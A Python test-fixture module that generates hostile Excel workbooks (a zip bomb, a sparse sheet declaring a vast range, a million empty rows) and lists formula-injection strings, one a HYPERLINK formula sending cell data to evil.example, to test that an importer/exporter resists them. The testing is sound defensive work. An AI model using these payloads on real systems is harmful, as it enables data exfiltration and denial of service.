"""Hostile workbooks written as raw XML, so each test file stays a few KB however large it claims to be."""
import io
import zipfile

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>')
RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships '
        'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>')
WORKBOOK = (f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{MAIN}" '
            'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
            '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>')
WORKBOOK_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships '
                 'xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
                 'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
                 'Target="worksheets/sheet1.xml"/></Relationships>')


def inline(ref, text):
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def row(number, cells):
    return f'<row r="{number}">{"".join(cells)}</row>'


def xlsx(sheet_chunks, *, dimension=None) -> bytes:
    """A one-sheet workbook; `sheet_chunks` (strings or an iterator of them) go inside <sheetData>, streamed into
    the zip so a sheet of hundreds of MB is never held in memory."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", CONTENT_TYPES)
        zf.writestr("_rels/.rels", RELS)
        zf.writestr("xl/workbook.xml", WORKBOOK)
        zf.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{MAIN}">'.encode())
            if dimension:
                sheet.write(f'<dimension ref="{dimension}"/>'.encode())
            sheet.write(b"<sheetData>")
            for chunk in ([sheet_chunks] if isinstance(sheet_chunks, str) else sheet_chunks):
                sheet.write(chunk.encode())
            sheet.write(b"</sheetData></worksheet>")
    return out.getvalue()


def sparse(*, far="ZZ1000000", declared=True) -> bytes:
    """A1 and one cell far away: ~1.5 KB that a dense reader expands to the whole rectangle."""
    number = "".join(ch for ch in far if ch.isdigit())
    return xlsx(row(1, [inline("A1", "姓名")]) + row(number, [f'<c r="{far}"><v>1</v></c>']),
                dimension=f"A1:{far}" if declared else "A1")


def zip_bomb(megabytes=300) -> bytes:
    """One cell holding hundreds of MB of zeros, deflated to a few hundred KB."""
    def chunks():
        yield '<row r="1"><c r="A1" t="inlineStr"><is><t>'
        block = "0" * (1024 * 1024)
        for _ in range(megabytes):
            yield block
        yield "</t></is></c></row>"
    return xlsx(chunks(), dimension="A1")


def empty_rows(header_cells, data_rows, *, count=1_000_000) -> bytes:
    """The given rows, then `count` formatted rows without a value (what Excel saves after formatting a column)."""
    def chunks():
        yield row(1, [inline(f"{chr(65 + i)}1", h) for i, h in enumerate(header_cells)])
        for n, cells in enumerate(data_rows, start=2):
            yield row(n, [inline(f"{chr(65 + i)}{n}", v) for i, v in enumerate(cells)])
        start = len(data_rows) + 2
        for n in range(start, start + count, 1000):
            yield "".join(f'<row r="{k}"><c r="A{k}" s="0"/></row>' for k in range(n, min(n + 1000, start + count)))
    return xlsx(chunks())


# Text that Excel, LibreOffice or WPS would take for a formula if it were written as one (issue 11 #5).
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击查看")', "+1", "-1+2", "@SUM(A1:A9)", "\t=1", "\r=1"]


def assert_no_formula(data: bytes, *, allowed=()) -> list:
    """Reopens the workbook: no cell is a formula (except those in `allowed`, the product's own), every text that
    starts like one carries the quote prefix. Returns every cell value, for further checks."""
    from openpyxl import load_workbook

    values = []
    for ws in load_workbook(io.BytesIO(data)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                values.append(cell.value)
                if cell.data_type == "f":
                    assert (ws.title, cell.coordinate) in allowed or cell.value in allowed, (ws.title, cell.coordinate,
                                                                                             cell.value)
                    continue
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                    assert cell.data_type == "s" and cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    return values
